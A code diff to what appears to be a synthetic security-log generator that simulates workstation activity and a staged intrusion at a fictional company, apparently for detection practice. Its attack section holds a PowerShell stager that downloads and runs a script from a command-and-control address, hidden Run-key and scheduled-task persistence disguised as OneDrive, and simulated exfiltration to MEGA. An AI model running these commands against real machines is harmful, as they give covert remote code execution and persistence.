@@ -481,10 +481,9 @@ def _workstation_day(b: _Builder, host: Host, start: datetime, end: datetime) ->
                         "D:\\Shares\\共有")
             b.file(BACKGROUND, cursor + timedelta(seconds=2), office, f"C:\\Users\\{user}\\Documents\\~${document}")
         elif choice < 0.68:
-            task = b.spawn(BACKGROUND, cursor, base["svchost"], "C:\\Windows\\System32\\taskhostw.exe",
-                           "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", user=account,
-                           integrity="Medium")
-            del task
+            b.spawn(BACKGROUND, cursor, base["svchost"], "C:\\Windows\\System32\\taskhostw.exe",
+                    "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", user=account,
+                    integrity="Medium")
         elif choice < 0.76:
             b.spawn(BACKGROUND, cursor, base["svchost"], "C:\\Windows\\System32\\SearchProtocolHost.exe",
                     '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ '
@@ -541,6 +540,7 @@ STAGER = (f"$u='http://{C2_IP}/cdn/invoice.ps1';$w=New-Object Net.WebClient;"
           "DefaultCredentials;IEX $w.DownloadString($u)")
 SECOND_STAGE = (
     "$ErrorActionPreference='SilentlyContinue'\n"
+    f"$e='{encoded_command(STAGER)}'\n"
     "$k='HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
     "Set-ItemProperty -Path $k -Name 'OneDriveSync' -Value ('powershell.exe -NoP -W Hidden -enc '+$e)\n"
     "$b=New-Object Net.WebClient\n"
@@ -564,7 +564,6 @@ def _attack(b: _Builder, at: datetime, victim_procs: dict[str, Proc]) -> None:
     dc = company.host("DC01")
     victim = ws.user or "sato.h"
     admin = "tanaka.k"
-    account = b.account(victim)
     sid = b.sid(victim)
     minute = timedelta(minutes=1)
     second = timedelta(seconds=1)
@@ -591,10 +590,9 @@ def _attack(b: _Builder, at: datetime, victim_procs: dict[str, Proc]) -> None:
     run_value = f"powershell.exe -NoP -W Hidden -enc {encoded_command(STAGER)}"
     b.registry("persistence", t, ps, f"HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync",
                run_value)
-    task = b.spawn("persistence", t + 20 * second, ps, "C:\\Windows\\System32\\schtasks.exe",
-                   '"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC ONLOGON /TN "Microsoft\\Windows\\OneDrive\\'
-                   f'OneDriveSyncUpdate" /TR "powershell.exe -NoP -W Hidden -enc {encoded_command(STAGER)}"')
-    del task
+    b.spawn("persistence", t + 20 * second, ps, "C:\\Windows\\System32\\schtasks.exe",
+            '"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC ONLOGON /TN "Microsoft\\Windows\\OneDrive\\'
+            f'OneDriveSyncUpdate" /TR "powershell.exe -NoP -W Hidden -enc {encoded_command(STAGER)}"')
     b.emit("persistence", t + 21 * second, ws, SECURITY, 4698,
            {"SubjectUserSid": sid, "SubjectUserName": victim, "SubjectDomainName": company.netbios,
             "SubjectLogonId": ps.logon_id, "TaskName": "\\Microsoft\\Windows\\OneDrive\\OneDriveSyncUpdate",
@@ -696,7 +694,6 @@ def _attack(b: _Builder, at: datetime, victim_procs: dict[str, Proc]) -> None:
     b.dns("exfiltration", t + 21 * second, rclone, "g.api.mega.co.nz", "31.216.148.11")
     b.dns("exfiltration", t + 23 * second, rclone, "gfs270n123.userstorage.mega.co.nz", EXFIL_IP)
     b.network("exfiltration", t + 23 * second, rclone, EXFIL_IP, 443, "gfs270n123.userstorage.mega.co.nz")
-    del account
 
 
 def generate(seed: int = DEFAULT_SEED, start: datetime | None = None,
